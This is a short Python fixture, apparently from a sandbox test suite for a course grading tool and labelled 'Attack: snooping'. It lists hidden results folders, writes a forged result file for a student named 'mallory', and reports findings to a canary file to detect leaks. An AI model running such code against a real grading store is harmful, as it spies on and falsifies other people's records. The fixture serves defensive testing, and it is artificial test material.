"""Reads and writes the store of results in the course root.

Attack: snooping
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os
def _read(path, count=300):
    try:
        with open(path, "rb") as file:
            return file.read(count).decode("latin-1")
    except OSError as error:
        return ""
def _tell(found):
    found = [piece for piece in found if piece]
    try:
        with open("@CANARY_DIR@/leak.txt", "a") as file:
            file.write("\n".join(found))
    except OSError:
        pass
    if found:
        raise RuntimeError("LEAK " + " | ".join(found)[:380])

_found = []
for _folder in ("@COURSE@/.vaekit/results", "@COURSE@/.vaekit", "@HOME@/.vaekit"):
    try:
        _found += os.listdir(_folder)[:5]
        open(os.path.join(_folder, "0" * 64 + ".json"), "w").write('{"student": "mallory"}')
    except OSError:
        pass
_tell(_found)
